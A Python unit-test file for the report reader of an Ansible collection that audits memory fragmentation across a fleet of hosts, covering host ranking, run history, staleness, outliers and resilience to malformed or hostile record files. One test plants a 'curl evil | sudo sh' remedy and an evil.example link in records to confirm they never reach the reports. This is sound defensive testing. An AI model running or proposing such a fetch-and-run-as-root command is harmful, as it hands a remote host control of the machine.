# Copyright (c) 2026, The kernelops.memfrag authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import datetime
import json
import os
import pathlib
import re
import subprocess
import sys
import typing as t
from unittest import mock

import pytest

from ansible_collections.kernelops.memfrag.plugins.module_utils._assessment.policy import PolicyError
from ansible_collections.kernelops.memfrag.plugins.plugin_utils import _records, _report
from ansible_collections.kernelops.memfrag.plugins.plugin_utils._report import _findings, _reader, _timeline, _types
from ansible_collections.kernelops.memfrag.tests.unit.plugins.plugin_utils.fleets import (
    FRAGMENTED,
    HEALTHY,
    SOURCES,
    facts_of,
    journal_of,
    make_record,
)


def read(*directories: t.Any, **options: t.Any) -> t.Any:
    return _reader.read(list(_records.runs(directories)), [], **options)


def names(fleet: t.Any) -> t.Any:
    return [host.name for host in fleet.hosts]


def graded(host: t.Any, level: t.Any, score: t.Any, **more: t.Any) -> t.Any:
    return make_record(host, assessment={"level": level, "score": score, "summary": "s", "findings": []}, **more)


def test_the_worst_node_comes_first(store: t.Any) -> None:
    fleet = read(
        store(
            graded("well", "low", 3),
            graded("ill", "critical", 90),
            graded("worse", "critical", 99),
            graded("node10", "high", 60),
            graded("node9", "high", 60),
            graded("watch", "medium", 40),
            graded("dark", "unknown", 20),
            make_record("measured", assessed=False),
            make_record("dead", None),
            make_record("broken", None, status="failed"),
        )
    )
    assert names(fleet) == "worse ill node9 node10 watch dark measured broken dead well".split()


def test_without_an_assessment_the_graded_answer_ranks(store: t.Any) -> None:
    fleet = read(store(make_record("a", assessed=False), make_record("b", FRAGMENTED, assessed=False)))
    assert names(fleet) == ["b", "a"]
    assert fleet.hosts[0].level is None and fleet.coverage["not_assessed"] == 2
    assert "can be had at once" in fleet.hosts[0].sentence


def test_a_graded_answer_at_a_low_order_outweighs_all_higher_ones() -> None:
    assert _types.badness("0003") > _types.badness("00003333333")
    assert _types.badness("00000000000") == 0
    assert _types.badness("02") < _types.badness("03")


def test_everyone_who_was_asked_for_is_there(store: t.Any) -> None:
    fleet = read(store(make_record("a"), make_record("b", None)), asked=["a", "b", "c"])
    assert fleet.coverage == {
        "asked": 3,
        "audited": 1,
        "failed": 1,
        "unreachable": 1,
        "stale": 0,
        "not_assessed": 0,
        "skipped_records": 0,
    }
    (missing,) = [host for host in fleet.hosts if host.name == "c"]
    assert missing.status == "failed" and missing.error.startswith("No record")


def test_slices_and_runs_merge_and_the_newest_record_wins(store: t.Any) -> None:
    one = store(graded("a", "low", 1), graded("b", "high", 60, day=13), where="one")
    other = store(graded("b", "critical", 90, day=20), graded("c", "medium", 40), run="other", where="other")
    fleet = read(one, other)
    assert names(fleet) == ["b", "c", "a"]
    assert [past.level for past in fleet.hosts[0].past] == ["high"]
    assert fleet.directories == 2


def test_a_run_has_the_earlier_ones_as_history(store: t.Any) -> None:
    for day, run, score in ((6, "r1", 60), (13, "r2", 70), (20, "r3", 90), (27, "r4", 99)):
        records = store(graded("a", "high", score, day=day), run=run)
    (host,) = read(records, run_id="r3").hosts
    assert host.score == 90
    assert [past.score for past in host.past] == [60, 70]
    (host,) = read(records, run_id="r3", history=1).hosts
    assert [past.score for past in host.past] == [70]
    (host,) = read(records).hosts
    assert host.score == 99 and [past.run_id for past in host.past] == ["r1", "r2", "r3"]


def test_a_long_history_is_cut_to_the_newest_runs(store: t.Any) -> None:
    for number in range(1, 20):
        records = store(graded("a", "low", number, day=number), run=f"r{20 - number}")
    (host,) = read(records, history=3).hosts
    assert host.score == 19
    assert [past.score for past in host.past] == [16, 17, 18]


def test_a_node_without_a_record_in_the_run_is_not_in_its_report(store: t.Any) -> None:
    store(graded("gone", "low", 1, day=13), run="r1")
    records = store(graded("a", "low", 1), run="r2")
    assert names(read(records, run_id="r2")) == ["a"]
    assert names(read(records)) == ["a", "gone"]


@pytest.mark.parametrize(
    ("before", "now", "change"),
    [
        (("low", 3), ("low", 8), None),
        (("low", 3), ("medium", 30), "worse"),
        (("high", 60), ("high", 75), "worse"),
        (("critical", 99), ("critical", 81), "better"),
        (("critical", 99), ("low", 0), "better"),
        (None, ("low", 0), "new"),
    ],
)
def test_changes_since_the_previous_run(store: t.Any, before: t.Any, now: t.Any, change: t.Any) -> None:
    store(graded("other", "low", 0, day=13), run="r1")
    if before:
        store(graded("a", *before, day=13), run="r1")
    records = store(graded("a", *now), graded("other", "low", 0), run="r2")
    fleet = read(records, run_id="r2")
    assert {host.name: host.change for host in fleet.hosts} == {"a": change, "other": None}
    assert fleet.changes.get(change, ["a"]) == ["a"]
    assert fleet.previous_time == datetime.datetime(2026, 11, 13, 6, tzinfo=datetime.timezone.utc)


def test_a_node_that_answered_last_time_is_lost(store: t.Any) -> None:
    store(graded("a", "low", 0, day=13), run="r1")
    assert read(store(make_record("a", None), run="r2"), run_id="r2").changes["lost"] == ["a"]


def test_nodes_that_were_not_assessed_change_by_their_graded_answer(store: t.Any) -> None:
    store(make_record("a", assessed=False, day=13), run="r1")
    fleet = read(store(make_record("a", FRAGMENTED, assessed=False), run="r2"), run_id="r2")
    assert fleet.hosts[0].change == "worse"


def test_a_first_run_has_no_changes(store: t.Any) -> None:
    fleet = read(store(graded("a", "low", 0)))
    assert fleet.hosts[0].change is None
    assert fleet.changes == {"worse": [], "better": [], "new": [], "lost": []}


def test_old_records_are_stale_against_the_newest_one(store: t.Any) -> None:
    store(graded("old", "low", 0, day=18), run="r1")
    fleet = read(store(graded("a", "low", 0), run="r2"), stale_after=datetime.timedelta(hours=47))
    assert [host.name for host in fleet.hosts if host.stale] == ["old"]
    assert not read(store(), stale_after=datetime.timedelta(hours=48)).coverage["stale"]


def test_a_damaged_record_is_named_and_the_one_before_it_counts(store: t.Any) -> None:
    store(graded("a", "low", 7, day=13), run="r1")
    records = store(graded("a", "low", 8), graded("b", "low", 0), run="r2")
    path = os.path.join(records, "r2", "a.json")
    with open(path, "w", encoding="utf-8") as stream:
        stream.write('{"host": "a", "sta')
    fleet = read(records)
    assert {host.name: host.score for host in fleet.hosts} == {"a": 7, "b": 0}
    assert len(fleet.problems) == 1 and fleet.problems[0].startswith(path)
    (missing,) = [host for host in read(records, run_id="r2", asked=["a"]).hosts if host.name == "a"]
    assert missing.status == "failed" and "not valid JSON" in missing.error


def broken(change: t.Any) -> t.Any:
    record = make_record("odd")
    change(record)
    return record


@pytest.mark.parametrize(
    "record",
    [
        make_record("odd", facts=[]),
        make_record("odd", facts={}),
        make_record("odd", facts={"kernel": {}, "zones": None, "allocatable": None}),
        make_record("odd", assessment={"findings": []}),
        make_record("odd", assessment={"level": "low", "findings": ["MF101"]}),
        broken(lambda record: record.update(journal={"incidents": {"a": 1}})),
        make_record("odd", groups=7),
        broken(lambda record: record["facts"]["allocatable"].append({})),
        broken(lambda record: record["facts"]["kernel"].update(page_size="huge")),
    ],
)
def test_no_record_of_an_unexpected_form_stops_the_report(store: t.Any, record: t.Any) -> None:
    fleet = read(store(record, make_record("fine")))
    assert "fine" in names(fleet)
    odd = [host for host in fleet.hosts if host.name == "odd"]
    assert odd or "odd.json" in fleet.problems[0]


@pytest.mark.parametrize("missing", [(source,) for source in SOURCES] + [SOURCES[1:]])
@pytest.mark.parametrize("assessed", [True, False])
def test_a_node_that_lacks_sources_is_in_the_report(
    store: t.Any, make_report: t.Any, monkeypatch: t.Any, missing: t.Any, assessed: t.Any
) -> None:
    if not assessed:
        monkeypatch.setattr(_report, "_assess", lambda policy: None)
    record = make_record("poor", facts=facts_of(HEALTHY, missing), assessment=None)
    report, text = make_report(store(record, make_record("dead", None)))
    assert report.fleet.coverage["audited"] == 1 and not report.fleet.problems
    (poor,) = [host for host in json.loads(text("json"))["hosts"] if host["host"] == "poor"]
    assert "poor" in text("html") and poor["measured"]["unavailable"]


def test_a_fleet_that_does_not_answer_has_a_report(store: t.Any, make_report: t.Any) -> None:
    report, text = make_report(store(make_record("a", None), make_record("b", None)))
    assert "No node could be audited" in text("html")
    assert report.summary[0] == "Coverage: 0 of 2 nodes audited, 2 unreachable."


def test_numbers_that_json_does_not_have_make_a_damaged_record(store: t.Any, make_report: t.Any) -> None:
    record = make_record("odd")
    record["facts"]["meminfo"]["memfree"] = float("nan")
    report, text = make_report(store(record, make_record("fine")))
    assert names(report.fleet) == ["fine"] and "odd.json" in report.fleet.problems[0]
    json.loads(text("json"), parse_constant=pytest.fail)


def test_a_record_without_an_assessment_gets_one(store: t.Any, make_report: t.Any) -> None:
    report, _text = make_report(store(make_record("a", FRAGMENTED, assessed=False)))
    assert report.fleet.hosts[0].level == make_record("a", FRAGMENTED)["assessment"]["level"]


def test_another_policy_assesses_everything_again(store: t.Any, make_report: t.Any) -> None:
    store(make_record("a", FRAGMENTED, day=13), run="r1")
    records = store(make_record("a", FRAGMENTED), run="r2")
    strict, _text = make_report(records, run_id="r2")
    found = strict.fleet.hosts[0].findings
    ignore = dict.fromkeys(found, "a test")
    report, _text = make_report(records, run_id="r2", policy={"ignore": ignore})
    assert found and not report.fleet.hosts[0].findings
    assert report.fleet.hosts[0].level == "low" and report.fleet.hosts[0].past[0].level == "low"


def test_a_policy_that_makes_no_sense_is_refused_before_anything_is_written(
    store: t.Any, make_report: t.Any, tmp_path: t.Any
) -> None:
    with pytest.raises(PolicyError, match="spare_block"):
        make_report(store(make_record("a")), policy={"spare_block": 1})
    assert not (tmp_path / "report").exists()


def test_findings_across_the_fleet(store: t.Any) -> None:
    fleet = read(store(make_record("a", FRAGMENTED), make_record("b", FRAGMENTED), make_record("c")))
    counts = {finding.id: finding.hosts for finding in fleet.findings}
    expected = {found["id"] for found in make_record("a", FRAGMENTED)["assessment"]["findings"]}
    assert expected <= set(counts)
    assert any(hosts == ["a", "b"] for hosts in counts.values())
    ranks = [_findings.severity_rank(finding.severity) for finding in fleet.findings]
    assert ranks == sorted(ranks)


def test_an_outlier_is_far_from_the_median_of_its_own_kind(store: t.Any) -> None:
    def node(host: t.Any, kilobytes: t.Any, release: t.Any = "6.1.0") -> t.Any:
        facts = facts_of(HEALTHY)
        facts["slab"]["unreclaimable_kb"] = kilobytes
        facts["kernel"]["release"] = release
        return make_record(host, facts=facts)

    peers = [node(f"n{number}", 500000 + number) for number in range(4)]
    fleet = read(store(*peers, node("leak", 3000000), node("other kernel", 9000000, "5.10.0")))
    found = {host.name: host.outliers for host in fleet.hosts if host.outliers}
    assert list(found) == ["leak"]
    (outlier,) = found["leak"]
    assert (outlier.metric, outlier.value, outlier.median, outlier.peers) == ("slab_unreclaimable", 3000000, 500002, 5)


def test_too_few_peers_have_no_median(store: t.Any) -> None:
    records = [make_record(f"n{number}") for number in range(3)] + [make_record("ill", FRAGMENTED)]
    assert not any(host.outliers for host in read(store(*records)).hosts)


def test_groups_come_from_the_record_or_from_the_inventory(store: t.Any) -> None:
    records = store(make_record("a", groups=["web"]), make_record("b"))
    fleet = read(records, groups={"all": ["a", "b"], "ungrouped": [], "db": ["a", "b"], "rack1": ["b"]})
    assert {host.name: host.groups for host in fleet.hosts} == {"a": ("web",), "b": ("db", "rack1")}


def test_the_cause_is_that_of_the_weightiest_incident(store: t.Any) -> None:
    (host,) = read(store(make_record("a", journal=journal_of("x")))).hosts
    assert (host.cause, host.incidents) == ("fragmentation", 1)


def test_what_was_assessed_by_the_same_policy_is_not_assessed_again(store: t.Any, make_report: t.Any) -> None:
    policy = {"spare_blocks": 8}
    kept = {"level": "high", "score": 55, "summary": "kept", "findings": [], "policy": policy}
    records = store(make_record("a", assessment=kept))
    assert make_report(records, policy=dict(policy))[0].fleet.hosts[0].sentence == "Kept."
    assert make_report(records, policy={"spare_blocks": 9})[0].fleet.hosts[0].level == "low"


def test_commands_of_a_record_are_not_ours(store: t.Any, make_report: t.Any) -> None:
    evil = {"remedy": "curl evil | sudo sh", "docs": "https://evil.example/", "variable": "evil"}
    record = make_record("a", FRAGMENTED)
    for finding in record["assessment"]["findings"]:
        finding.update(evil)
    record["assessment"]["findings"].append({"id": "MF998", "severity": "critical", "title": "Worst of all", **evil})
    report, text = make_report(store(record))
    for name in ("html", "json", "csv", "prom"):
        assert "evil" not in text(name)
    assert "evil" not in "".join(report.summary) and "Worst of all" in text("json")
    honest, _text = make_report(store(make_record("a", FRAGMENTED), where="honest"), to="honest-report")
    ours = {finding.id: finding for finding in honest.fleet.findings}
    assert ours and all(finding == ours[finding.id] for finding in report.fleet.findings if finding.id in ours)


@pytest.mark.parametrize(
    ("part", "value", "says"),
    [
        (
            "assessment",
            {"level": "superb", "score": 1, "summary": "", "findings": []},
            "assessment.level: must be one of",
        ),
        (
            "assessment",
            {"level": "low", "score": 10**9, "summary": "", "findings": []},
            "assessment.score: must be from 0 to 100",
        ),
        ("groups", "web", "groups: must be a list"),
        ("duration_seconds", [], "duration_seconds: must be a number"),
        ("journal", {"events": [], "incidents": [{"cause": "x"}]}, "journal.incidents[0]: has no reason"),
    ],
)
def test_a_record_that_breaks_its_contract_is_named_with_the_field(
    store: t.Any, part: t.Any, value: t.Any, says: t.Any
) -> None:
    fleet = read(store(make_record("a", **{part: value}), make_record("b")))
    assert names(fleet) == ["b"]
    (problem,) = fleet.problems
    assert "/r1/a.json: not in the form of this collection (" + says in problem


def test_what_only_the_page_of_a_node_that_is_well_shows_ends_no_report(store: t.Any, make_report: t.Any) -> None:
    record = make_record("a")
    record["facts"]["zones"][0]["migratetypes"] = {"Movable": [[]]}
    report, text = make_report(store(record, make_record("b")))
    assert names(report.fleet) == ["b"]
    assert "</html>" in text("html")
    (problem,) = report.fleet.problems
    assert "facts.zones[0].migratetypes.Movable[0]: must be a whole number" in problem


@pytest.mark.parametrize("number", ["-5", "1" + "0" * 400, "0.5"])
@pytest.mark.parametrize("name", ["memtotal", "percpu", "unreclaimable_kb"])
def test_a_number_that_is_no_count_ends_no_report(store: t.Any, make_report: t.Any, name: str, number: str) -> None:
    """Of a node that is well only what is shown is held to the contract, and without a page less of that."""
    records = store(*(make_record(f"h{host}") for host in range(5)), make_record("odd"))
    for host in ("h1", "odd"):
        path = pathlib.Path(records, "r1", host + ".json")
        path.write_text(re.sub(rf'"{name}":[0-9]+', f'"{name}":{number}', path.read_text()))
    assert make_report(records, formats=("json", "csv", "prom"))[0].fleet.coverage["audited"] == 6


def test_where_no_record_can_be_read_it_is_said_why(store: t.Any, make_report: t.Any) -> None:
    with pytest.raises(_records.RecordError, match=r"No records in .*, but 1 that cannot be read: .*a\.json: not in"):
        make_report(store(make_record("a", groups="web")))


def test_groups_are_as_long_as_their_owner_makes_them(store: t.Any) -> None:
    """An inventory of a cloud names them after tags."""
    (host,) = read(store(make_record("a", groups=["tag_" + "x" * 400]))).hosts
    assert host.status == "audited"


def test_a_time_that_is_yet_to_come_is_not_believed(store: t.Any, monkeypatch: t.Any) -> None:
    now = datetime.datetime(2026, 11, 20, 7, tzinfo=datetime.timezone.utc)
    records = store(make_record("liar", started_at="9999-12-31T23:59:59Z"), make_record("honest"))
    os.utime(os.path.join(records, "r1", "liar.json"), (now.timestamp(), now.timestamp() - 3600))
    fleet = read(records, now=now)
    assert not [host.name for host in fleet.hosts if host.stale]
    assert {host.name: str(host.time) for host in fleet.hosts}["liar"] == "2026-11-20 06:00:00+00:00"
    os.utime(os.path.join(records, "r1", "liar.json"), (4e9, 4e9))
    assert max(host.time for host in read(records, now=now).hosts) <= now + _timeline.CLOCKS_APART
    # As file systems with 64 bits for it have.
    monkeypatch.setattr(os, "stat", lambda path: mock.Mock(st_mtime=2.0**40))
    assert max(host.time for host in read(records, now=now).hosts) <= now + _timeline.CLOCKS_APART


def test_a_record_that_the_disk_does_not_give_is_named(store: t.Any) -> None:
    """Of one that has a past the first line is read before all else."""
    records = store(make_record("a"), make_record("b"))
    store(make_record("a", day=13), run="r0")
    os.unlink(os.path.join(records, "r1", "a.json"))
    # Its beginning cannot be read.
    os.symlink("/proc/self/mem", os.path.join(records, "r1", "a.json"))
    fleet = read(records)
    assert names(fleet) == ["a", "b"] and fleet.problems == [f"{records}/r1/a.json: Input/output error"]


def test_files_that_are_no_records_are_named_and_skipped(store: t.Any, tmp_path: t.Any) -> None:
    """In a process with little memory: what is too large is not read, what never ends is not waited for."""
    run = os.path.join(store(make_record("honest")), "r1")
    os.mkfifo(os.path.join(run, "fifo.json"))
    os.symlink("loop.json", os.path.join(run, "loop.json"))
    os.symlink("nowhere", os.path.join(run, "gone.json"))
    os.symlink("/dev/zero", os.path.join(run, "endless.json"))
    os.mkdir(os.path.join(run, "directory.json"))
    with open(os.path.join(run, "huge.json"), "wb") as stream:
        stream.truncate(1 << 40)
    for name, text in (
        ("deep", "[" * 1000000),
        ("wide", "[" + "[],{}," * 1300000 + "0]"),
        ("half", '{"host": "ha'),
        ("nan", "NaN"),
    ):
        with open(os.path.join(run, name + ".json"), "w", encoding="ascii") as stream:
            stream.write(text)
    code = (
        "import resource, sys\n"
        "from ansible_collections.kernelops.memfrag.plugins.plugin_utils import _report\n"
        "resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))\n"
        "report = _report.make([sys.argv[1]], sys.argv[2], ['json'])\n"
        "print([host.name for host in report.fleet.hosts], *report.fleet.problems, sep='\\n')\n"
    )
    arguments = [sys.executable, "-c", code, os.path.dirname(run), str(tmp_path / "report")]
    environment = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, sys.path)))
    done = subprocess.run(arguments, check=False, capture_output=True, text=True, timeout=60, env=environment)
    assert done.returncode == 0, done.stderr
    hosts, *problems = done.stdout.splitlines()
    assert hosts == "['honest']"
    said = {os.path.basename(line.partition(": ")[0]): line.partition(": ")[2] for line in problems}
    assert said.pop("wide.json")
    assert {name: why.split(" (")[0] for name, why in said.items()} == {
        "deep.json": "not valid JSON",
        "directory.json": "not a regular file",
        "endless.json": "not a regular file",
        "fifo.json": "not a regular file",
        "gone.json": "No such file or directory",
        "half.json": "not valid JSON",
        "huge.json": "has 1,099,511,627,776 bytes, of at most 8,388,608",
        "loop.json": "Too many levels of symbolic links",
        "nan.json": "not valid JSON",
    }
